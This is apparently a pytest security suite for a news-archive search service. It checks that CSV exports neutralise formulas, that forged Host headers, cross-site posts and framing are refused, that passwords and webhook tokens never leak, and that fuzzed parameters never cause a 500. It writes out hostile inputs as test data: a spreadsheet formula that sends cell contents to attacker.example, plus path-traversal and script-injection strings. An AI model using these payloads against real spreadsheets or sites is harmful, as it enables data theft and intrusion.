"""The page, the API, the exports and the feeds under hostile crawled content and hostile
requests: no formula in a spreadsheet, no broken feed, no frame, no leaked secret, no 500.

Everything runs against the real Elasticsearch, over real HTTP on 127.0.0.1; framing and the
highlight markers are checked in chromium (the browser fixture of test_browser.py).
"""

from __future__ import annotations

import csv
import io
import http.cookiejar
import json
import logging
import socket
import threading
import urllib.error
import urllib.parse
import urllib.request
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import feedparser
import pytest
from click.testing import CliRunner
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from archive.cli import AppContext, cli
from archive.urls import document_id
from crawler.extraction import ArticleExtractor
from search.alerts import AlertStore, SavedSearch
from search.http_api import create_app, running_server
from search.indices import clean_stored, ensure_all
from search.outbox import check as check_and_deliver
from search.writer import ArticleWriter
from test_browser import arrive, browser, no_script_ran  # noqa: F401 (fixture)
from _web import browser_sign_in, sign_in

HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1, "Harbour fresh")'
PASSWORD = "S3cretPW"
WEBHOOK_TOKEN = "T0SECRET"


def now(offset_seconds: float = 0) -> str:
    return (datetime.now(timezone.utc) + timedelta(seconds=offset_seconds)).isoformat()


def doc(slug: str, title: str, body: str, **fields) -> tuple[str, dict]:
    url = f"https://news.example/2025/06/01/{slug}"
    return document_id(url), {"url": url, "title": title, "site": "news", "authors": ["Ana Ruiz"], "language": "en",
                              "published": "2025-06-01T08:00:00+00:00", "body": body, "content_hash": f"{slug}:{hash(body)}",
                              "crawled_at": now(), **fields}


def write(es_client, settings, *docs) -> None:
    ArticleWriter(es_client, settings.elasticsearch).write(dict(docs))
    es_client.indices.refresh(index=settings.elasticsearch.articles_alias)


# The page and the API need a signed-in user: request() carries the session of the last sign-in.
SESSIONS = http.cookiejar.CookieJar()


def request(url: str, data: bytes | None = None, headers: dict | None = None, method: str | None = None):
    """(status, headers, body text) for any answer, errors included; redirects not followed."""

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):
            return None

    opener = urllib.request.build_opener(NoRedirect, urllib.request.HTTPCookieProcessor(SESSIONS))
    try:
        with opener.open(urllib.request.Request(url, data=data, headers=headers or {}, method=method), timeout=30) as response:
            return response.status, response.headers, response.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read().decode("utf-8", "replace")


def raw_request(base: str, text: str) -> str:
    """Send these exact bytes (a forged Host header, say) and return the whole answer."""
    host, port = base.split("://")[1].split(":")
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(text.replace("\n", "\r\n").encode("latin-1"))
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks).decode("utf-8", "replace")


def form(fields: list[tuple[str, str]]) -> bytes:
    return urllib.parse.urlencode(fields).encode()


@pytest.fixture
def served(es_client, archive_settings, web_admin):
    ensure_all(es_client, archive_settings.elasticsearch)
    app = create_app(archive_settings, es_client)
    with running_server(app) as base:
        sign_in(base, *web_admin, jar=SESSIONS)
        yield base, app


def cli_run(settings, *args, env: dict | None = None):
    return CliRunner().invoke(cli, list(args), obj=AppContext(None, settings), env=env)


# --- 1. exports neutralise formulas ---------------------------------------------------------


def test_csv_exports_neutralise_formulas_and_json_stays_exact(es_client, archive_settings, served):
    base, _ = served
    hostile = doc("formula", HOSTILE_TITLE, "=1+1 harbour fresh figures from the quay.", authors=["@SUM(1+1)"],
                  tags=["=1+1", "+2", "-3", "@4"])
    plain = doc("plain", "Harbour fresh catch", "The harbour market sold fresh fish.", tags=["harbour"])
    write(es_client, archive_settings, hostile, plain)

    def rows(text: str) -> dict[str, dict]:
        return {row["url"]: row for row in csv.DictReader(io.StringIO(text))}

    url = hostile[1]["url"]
    for path in ("/export.csv?q=harbour", "/search.csv?q=harbour", "/search.csv?q=harbour&size=10"):
        status, _, body = request(base + path)
        assert status == 200, (path, body)
        row = rows(body)[url]
        assert row["title"] == "'" + HOSTILE_TITLE, path
        assert row["authors"] == "'@SUM(1+1)" and row["tags"] == "'=1+1; +2; -3; @4", path
        assert row["snippets"].startswith("'=1+1"), path
        assert rows(body)[plain[1]["url"]]["title"] == "Harbour fresh catch"  # nothing else is touched
    cli = cli_run(archive_settings, "search", "harbour", "--format", "csv")
    assert cli.exit_code == 0, cli.output
    assert rows(cli.stdout)[url]["title"] == "'" + HOSTILE_TITLE
    exported = {h["url"]: h for h in json.loads(request(base + "/export.json?q=harbour")[2])}
    assert exported[url]["title"] == HOSTILE_TITLE and exported[url]["tags"] == ["=1+1", "+2", "-3", "@4"]
    line = json.loads(request(base + "/export.ndjson?q=formula+OR+HYPERLINK")[2].splitlines()[0])
    assert line["authors"] == ["@SUM(1+1)"]


# --- 2. control characters ------------------------------------------------------------------

DIRTY_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>x</title>
<meta property="article:published_time" content="2025-06-02T08:00:00+00:00">
<meta property="article:tag" content="ports\u0001\u001b">
<meta property="article:tag" content="\ufffe\u0002">
<script type="application/ld+json">{"@type": "NewsArticle", "headline": "Quay \\u0001\\u0002\\u000b\\u001b\\u0000reopens",
 "author": {"@type": "Person", "name": "Ola\\u0007 Berg"}}</script>
</head><body><article><h1>Quay reopens</h1>
""" + "".join(f"<p>Paragraph {i}: the quay reopened\u0008 after repairs, the port authority said on Tuesday, and ships queued.</p>"
              for i in range(8)) + "</article></body></html>"


def test_control_characters_are_cleaned_at_extraction_never_emitted_and_migrate_cleans_the_stored(
        es_client, archive_settings, served):
    base, _ = served
    extracted = ArticleExtractor(archive_settings.extraction).extract(DIRTY_PAGE, "https://news.example/2025/06/02/quay")
    texts = [extracted.title, extracted.body, *extracted.authors, *extracted.tags]
    assert all(not any(ord(c) < 32 and c not in "\t\n" for c in t) and "\ufffe" not in t for t in texts), texts
    assert "ports" in extracted.tags and "Paragraph 0: the quay reopened after repairs" in extracted.body

    # An article stored before extraction cleaned text: the feed, the page and the JSON still work.
    store = AlertStore(es_client, archive_settings.elasticsearch)
    store.add(SavedSearch(name="quay", query="quay"))
    dirty_title = "Quay \u0001\u0002\u000b\u001b\u0000reopens"
    write(es_client, archive_settings, doc("quay", dirty_title, "The quay\u0007 reopened.", tags=["ports\u001b", "\ufffe"]),
          doc("clean", "Quay clean story", "The quay is clean."))
    check_and_deliver(es_client, archive_settings, "quay")
    feed = feedparser.parse(request(base + "/alerts/quay.atom")[2])
    assert not feed.bozo, feed.bozo_exception
    assert "Quay reopens" in [e.title for e in feed.entries]
    for path in ("/?q=quay", f"/article/{doc('quay', '', '')[0]}"):
        status, _, page = request(base + path)
        assert status == 200 and not any(ord(c) < 32 and c not in "\t\n" for c in page) and "&#1;" not in page, path
    assert "<h1>Quay reopens</h1>" in page

    # `archive index migrate` cleans what is stored, and says so.
    migrated = cli_run(archive_settings, "index", "migrate")
    assert migrated.exit_code == 0, migrated.output
    assert f"cleaned 1 document of {archive_settings.elasticsearch.articles_alias}" in migrated.output
    stored = es_client.get(index=archive_settings.elasticsearch.articles_alias, id=doc("quay", "", "")[0])["_source"]
    assert stored["title"] == "Quay reopens" and stored["body"] == "The quay reopened." and stored["tags"] == ["ports"]
    assert request(base + "/search?q=reopens")[2].count("Quay reopens") >= 1  # the stems were rebuilt too
    assert clean_stored(es_client, archive_settings.elasticsearch.articles_alias) == 0  # nothing left to clean


# --- 3. framing, Host, cross-site posts ----------------------------------------------------------


def test_headers_host_allowlist_and_same_origin_posts(es_client, archive_settings, served, web_admin):
    base, app = served
    write(es_client, archive_settings, doc("tram", "Tram depot reopens", "The tram depot reopened."))
    store = AlertStore(es_client, archive_settings.elasticsearch)
    for path in ("/", "/search?q=tram", "/alerts", "/nosuchpage", "/search?q=%22open", "/static/style.css", "/health"):
        status, headers, _ = request(base + path)
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], path
        assert headers["X-Content-Type-Options"] == "nosniff" and headers["Referrer-Policy"], path

    # A Host that is not this server's is refused, and never makes it into a link or redirect.
    port = base.rsplit(":", 1)[1]
    answer = raw_request(base, "GET /alerts/x.atom HTTP/1.1\nHost: evil.example\nConnection: close\n\n")
    assert answer.startswith("HTTP/1.1 400") and "does not name this server" in answer and "frame-ancestors" in answer
    rebinding = form([("name", "rebound"), ("q", "tram")]).decode()
    answer = raw_request(base, f"POST /alerts HTTP/1.1\nHost: rebind.attacker.example:{port}\nOrigin: http://rebind.attacker.example:{port}\n"
                               f"Sec-Fetch-Site: same-origin\nContent-Type: application/x-www-form-urlencoded\n"
                               f"Content-Length: {len(rebinding)}\nConnection: close\n\n{rebinding}")
    assert answer.startswith("HTTP/1.1 400") and store.list() == []
    answer = raw_request(base, "GET /alerts/ HTTP/1.1\nHost: localhost\nConnection: close\n\n")
    assert "evil" not in answer and "Location: http" not in answer  # no redirect built from a Host

    def post(fields, **headers):
        return request(base + "/alerts", form(fields), {"Content-Type": "application/x-www-form-urlencoded", **headers})

    assert post([("name", "a"), ("q", "tram")], Referer="http://evil.example/")[0] == 403  # no Origin: refused
    assert post([("name", "b"), ("q", "tram")], Origin=base.replace("http://", "https://"), **{"Sec-Fetch-Site": "same-origin"})[0] == 403
    assert post([("name", "c"), ("q", "tram")], Origin="http://evil.example")[0] == 403
    assert post([("name", "d"), ("q", "tram")], Origin=base)[0] == 403  # same origin claimed, but no token and no Sec-Fetch-Site
    assert post([("name", "e"), ("q", "tram"), ("csrf_token", "forged")], Origin=base)[0] == 403
    admin = web_admin[0]  # saved from the page: the signed-in user's
    assert [store.get(n, admin) for n in "abcde"] == [None] * 5
    status, headers, _ = post([("name", "f"), ("q", "tram"), ("csrf_token", app.state.csrf_token)], Origin=base)
    assert status == 303 and headers["Location"] == "/alerts/f?saved=1" and store.get("f", admin) is not None
    status, _, body = post([("name", "g"), ("q", "tram")], Origin=base, **{"Sec-Fetch-Site": "same-origin"})
    assert status == 303 and store.get("g", admin) is not None

    # Feed links are built from ARCHIVE_PUBLIC_URL (here the default), never from the Host used.
    feed = feedparser.parse(request(base + "/alerts/g.atom", headers={"Host": f"localhost:{port}"})[2])
    assert feed.feed.link.startswith("http://127.0.0.1:8800/alerts/g")


def test_another_site_cannot_frame_a_page_and_click_remove(browser, es_client, archive_settings, served, web_admin):  # noqa: F811
    base, _ = served
    browser_sign_in(browser, base, web_admin)
    store = AlertStore(es_client, archive_settings.elasticsearch)
    store.add(SavedSearch(name="beat", query="tram"))
    attacker = b"<!doctype html><html><body><h1>Win a prize</h1><iframe id='f' src='%s/alerts/beat' width=800 height=600></iframe></body></html>"

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            body = attacker % base.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        browser.get(f"http://localhost:{server.server_address[1]}/")  # another origin than the archive's
        assert browser.find_element(By.TAG_NAME, "h1").text == "Win a prize"
        browser.switch_to.frame(browser.find_element(By.ID, "f"))
        browser.implicitly_wait(0)
        try:
            assert not browser.find_elements(By.XPATH, "//button[contains(., 'Remove')]")  # the frame stays empty
        finally:
            browser.implicitly_wait(5)
            browser.switch_to.default_content()
        # On the archive's own page the button is there and works.
        browser.get(base + "/alerts/beat")
        browser.find_element(By.XPATH, "//button[contains(., 'Remove')]").click()
        # "/alerts" is already in the saved search's own URL: wait until the browser has left it.
        WebDriverWait(browser, 10).until(
            lambda d: "/alerts/beat" not in d.current_url and d.execute_script("return document.readyState") == "complete"
        )
        assert store.get("beat") is None
    finally:
        server.shutdown()
        server.server_close()


# --- 4. secrets ---------------------------------------------------------------------------------


class Webhook:
    """A webhook endpoint on 127.0.0.1 that answers 200."""

    def __init__(self):
        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802
                self.rfile.read(int(self.headers["Content-Length"]))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_no_output_shows_a_password_or_a_webhook_token(es_client, archive_settings, caplog, web_admin):
    caplog.set_level(logging.DEBUG)
    outputs: list[str] = []
    store = AlertStore(es_client, archive_settings.elasticsearch)
    ensure_all(es_client, archive_settings.elasticsearch)
    store.add(SavedSearch(name="ferry", query="ferry"))

    # A webhook that worked once, then a dead one: the record says so, naming only scheme, host and port.
    hook = Webhook()
    live = replace(archive_settings, alerts=replace(archive_settings.alerts, webhook_url=f"http://127.0.0.1:{hook.port}/services/{WEBHOOK_TOKEN}/B1/live",
                                                    webhook_attempts=1))
    write(es_client, archive_settings, doc("ferry1", "Ferry one", "The ferry sailed."))
    check_and_deliver(es_client, live, "ferry")
    assert store.get("ferry").last_delivery["webhook"]["status"] == 200
    hook.close()
    dead_port = free_port()
    dead = replace(live, alerts=replace(live.alerts, webhook_url=f"http://127.0.0.1:{dead_port}/services/{WEBHOOK_TOKEN}/B2/dead"))
    write(es_client, archive_settings, doc("ferry2", "Ferry two", "The ferry sailed again."))
    check_and_deliver(es_client, dead, "ferry")
    delivery = store.get("ferry").last_delivery["webhook"]
    assert delivery["ok"] is False and "status" not in delivery  # no stale 200 beside the failure
    assert f"127.0.0.1:{dead_port}" in delivery["error"]
    outputs.append(json.dumps(delivery))

    with running_server(create_app(dead, es_client)) as base:
        sign_in(base, *web_admin, jar=SESSIONS)
        for path in ("/alerts/ferry", "/alerts.json", "/alerts/ferry.json", "/alerts"):
            status, _, body = request(base + path)
            assert status == 200 and (f"127.0.0.1:{dead_port}" in body or path == "/alerts"), path
            outputs.append(body)
    listed = cli_run(dead, "alerts", "list")
    outputs += [listed.output, cli_run(dead, "alerts", "list", "--format", "json").output]
    assert "FAILED" in listed.output

    # Elasticsearch credentials in the URL: used as basic auth, shown nowhere. The node has
    # security on: the URL carries the archive user's real password (search/node_credentials.py).
    from archive.config import load_settings
    from search import node_credentials

    node_port = archive_settings.elasticsearch.url.rsplit(":", 1)[1]
    real = node_credentials.find([archive_settings.elasticsearch.url]).service
    env = {"ELASTICSEARCH_URL": f"http://{real.username}:{real.password}@127.0.0.1:{node_port}"}

    with_password = load_settings(env=env)
    assert with_password.elasticsearch.password == real.password and real.password not in with_password.elasticsearch.url
    searched = cli_run(replace(with_password, elasticsearch=replace(with_password.elasticsearch,
                                                                     articles_alias=archive_settings.elasticsearch.articles_alias)),
                       "search", "ferry")
    assert searched.exit_code == 0 and "Ferry two" in searched.output
    outputs.append(searched.output)
    down_env = {"ELASTICSEARCH_URL": f"http://elastic:{PASSWORD}@127.0.0.1:{free_port()}"}
    down = replace(load_settings(env=down_env), data_dir=archive_settings.data_dir)
    failed = cli_run(down, "search", "ferry")
    assert failed.exit_code == 1 and "not reachable" in failed.output
    outputs.append(failed.output)
    with running_server(create_app(down)) as base:
        for path in ("/search?q=ferry", "/health", "/?q=ferry", "/alerts"):
            status, _, body = request(base + path)
            assert status == 503, (path, body)
            outputs.append(body)
    outputs += [record.getMessage() for record in caplog.records]
    outputs.append(caplog.text)
    leaked = [o for o in outputs if PASSWORD in o or WEBHOOK_TOKEN in o or real.password in o]
    assert not leaked, leaked


# --- 5. the diff --------------------------------------------------------------------------------


def test_diff_shows_paragraphs_that_start_with_plus_plus_or_minus_minus(es_client, archive_settings, served):
    base, _ = served
    first = "The council met on Monday.\n\n-- Earlier claim: the mayor resigned.\n\nThe vote is next week."
    second = "The council met on Monday.\n\n++ Correction: the mayor did not resign.\n\nThe vote is next week."
    article_id, stored = doc("council", "Council meets", first)
    write(es_client, archive_settings, (article_id, stored))
    write(es_client, archive_settings, (article_id, {**stored, "body": second, "content_hash": "council:2", "crawled_at": now(60)}))
    es_client.indices.refresh(index=archive_settings.elasticsearch.versions_alias)
    change = json.loads(request(base + f"/article/{article_id}.json")[2])["changes"][0]
    lines = [(line["kind"], line["text"]) for line in change["diff_lines"]]
    assert ("removed", "-- Earlier claim: the mayor resigned.") in lines
    assert ("added", "++ Correction: the mayor did not resign.") in lines
    assert not any(text.startswith("captured ") for _, text in lines)  # the two headers stay out
    page = request(base + f"/article/{article_id}")[2]
    assert "++ Correction: the mayor did not resign." in page and "The text did not change" not in page


# --- 6. limits ------------------------------------------------------------------------------------


def test_oversized_queries_and_bodies_are_refused_naming_the_limit(es_client, archive_settings, served):
    base, _ = served
    write(es_client, archive_settings, doc("harbour", "Harbour authority", "The harbour authority met."))
    store = AlertStore(es_client, archive_settings.elasticsearch)

    def error(path: str) -> tuple[int, str | None]:
        status, _, body = request(base + path)
        return status, json.loads(body).get("error")

    assert error("/search?q=" + "a" * 1001) == (400, "the query has 1,001 characters; the limit is 1,000 (search.max_query_chars): shorten it")
    status, message = error("/search?q=" + "+".join(["harbour"] * 101))
    assert status == 400 and "the limit is 100 (search.max_query_terms)" in message
    status, message = error("/search?q=" + "a" * 31 + "~2")
    assert status == 400 and "up to 30 characters (search.max_fuzzy_chars)" in message
    assert error("/search?q=harbour~2")[0] == 200 and error("/search?q=" + "a" * 30 + "~")[0] == 200
    status, message = error("/search?q=" + urllib.parse.quote("(" * 11 + "harbour" + ")" * 11))
    assert status == 400 and "search.max_query_depth" in message
    status, message = error("/search?q=" + urllib.parse.quote("NOT(" * 6 + "harbour" + ")" * 6))
    assert status == 400 and "search.max_query_depth" in message
    # A query Elasticsearch itself refuses (a slop beyond its integer range): 400, why, never "the cluster".
    status, message = error("/search?q=" + urllib.parse.quote('"harbour authority"~99999999999'))
    assert status == 400 and message.startswith("Elasticsearch refused the query") and "cluster" not in message
    cli = cli_run(archive_settings, "search", '"harbour authority"~99999999999')
    assert cli.exit_code == 1 and "Elasticsearch refused the query" in cli.output and "red" not in cli.output

    huge = form([("name", "huge"), ("q", " ".join(["harbour"] * 120_000))])
    status, _, body = request(base + "/alerts", huge, {"Origin": base, "Sec-Fetch-Site": "same-origin",
                                                        "Content-Type": "application/x-www-form-urlencoded"})
    assert status == 413 and "65,536 bytes (search.max_body_bytes)" in json.loads(body)["error"]
    status, _, body = request(base + "/alerts", form([("name", "long"), ("q", "harbour " * 120)]),
                              {"Origin": base, "Sec-Fetch-Site": "same-origin", "Content-Type": "application/x-www-form-urlencoded"})
    assert status == 400 and "search.max_query_terms" in body
    assert store.get("huge") is None and store.get("long") is None


# --- 7. no parameter makes a 500 ---------------------------------------------------------------------

HOSTILE_VALUES = [
    "²", "٣", "¹⁰", "-1", "0", "1e3", "0x10", " 7", "9" * 5000, "", "%00", "\x00", "\u202e", "\ufffe",
    "title:(", "title:|", "title:)", "author:\"", "(" * 400 + "a", "NOT " * 1000 + "a", "a" * 3000 + "~2", "*", "a*", "~",
    '"a b"~99999999999', '"a b"~', "a OR", "OR", "AND AND", "-", "+", "|", "()", '"', "'", "\\", "site:", "lang:",
    "<script>alert(1)</script>", "../../etc/passwd", "javascript:alert(1)", "http://[", "https://x:99999/", "http://a:-1/",
    "2025-02-30", "9999-99-99", "x" * 2000,
]
ROUTES = ["/", "/search", "/search.json", "/search.csv", "/export.csv", "/export.json", "/export.ndjson", "/alerts", "/alerts.json"]
PARAMETERS = ["q", "size", "page", "since", "until", "sort", "site", "lang", "tag", "author", "briefs", "edited", "with_body"]


def test_hostile_parameters_never_make_a_500_or_a_traceback(es_client, archive_settings, served):
    base, app = served
    write(es_client, archive_settings, doc("fuzz", "Fuzz target", "A harbour story for the fuzzer."))
    AlertStore(es_client, archive_settings.elasticsearch).add(SavedSearch(name="fuzz", query="harbour"))
    tried = []

    def check(path: str, data: bytes | None = None, headers: dict | None = None) -> None:
        status, _, body = request(base + path, data, headers)
        tried.append(path)
        assert status < 500 and "Traceback" not in body, (path[:200], status, body[:300])

    for n, value in enumerate(HOSTILE_VALUES):
        quoted = urllib.parse.quote(value, safe="")
        for route in ROUTES:
            name = PARAMETERS[n % len(PARAMETERS)] if route not in ("/", "/search") else "q"
            check(f"{route}?{name}={quoted}")
        for name in (PARAMETERS[(n + 3) % len(PARAMETERS)], PARAMETERS[(n + 7) % len(PARAMETERS)]):
            check(f"/search?q=harbour&{name}={quoted}")
        for path in ("/article/", "/articles/", "/alerts/", "/articles?url=", "/alerts/fuzz?checked=", "/alerts/fuzz?saved="):
            check(path + quoted)
        posted = {"Origin": base, "Content-Type": "application/x-www-form-urlencoded"}
        check("/alerts", form([("name", value[:100]), ("q", value), ("site", value), ("csrf_token", app.state.csrf_token)]), posted)
        for action in ("check", "remove"):
            check(f"/alerts/{quoted}/{action}", form([("csrf_token", app.state.csrf_token)]), posted)
    assert len(tried) > 900


# --- 8. only real matches are highlighted --------------------------------------------------------------


def test_a_literal_mark_in_a_crawled_body_is_text_in_chromium(browser, es_client, archive_settings, served, web_admin):  # noqa: F811
    base, _ = served
    browser_sign_in(browser, base, web_admin)
    body = "Harbour notes: <mark><mark>fake</mark> highlight</mark> and <b>bold</b> in the crawled text."
    write(es_client, archive_settings, doc("notes", "Harbour notes", body))
    browser.get(base + "/?q=harbour")
    assert no_script_ran(browser)
    snippet = browser.find_element(By.CSS_SELECTOR, ".hit p.snippet")
    assert "<mark><mark>fake</mark> highlight</mark>" in snippet.text  # shown as the page wrote it
    marks = [m.text for m in browser.find_elements(By.CSS_SELECTOR, ".hit mark")]
    assert marks and {m.lower() for m in marks} == {"harbour"}, marks  # only the real match is highlighted
    assert "fake" not in marks and not browser.find_elements(By.CSS_SELECTOR, ".hit b")
    hit = json.loads(request(base + "/search?q=harbour")[2])["hits"][0]
    assert "<mark>Harbour</mark> notes" in hit["snippets"][0] and "\ue000" not in json.dumps(hit)
